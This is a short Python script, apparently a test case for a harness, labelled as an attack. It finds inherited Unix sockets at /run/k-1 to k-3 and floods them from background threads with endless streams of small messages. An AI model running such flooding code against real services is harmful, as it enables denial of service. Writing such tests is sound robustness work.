# attack: messages of four thousand parts of nothing each: none is too large, each takes its time
# limit: 3
# ends: done, killed or interrupted
import os, socket, threading, time
whole = (b"\x01\x00" * 4_000 + b"\x00\x00") * 8
def pour(wire):
    wire.setblocking(True)
    while True:
        wire.sendall(whole)
for name in os.listdir("/proc/self/fd"):
    try:
        wire = socket.socket(fileno=os.dup(int(name)))
        if wire.getsockname() in ("/run/k-2", "/run/k-3", "/run/k-1") and wire.getpeername() == "":
            threading.Thread(target=pour, args=(wire,), daemon=True).start()
    except OSError:
        continue
time.sleep(8)
print("done")
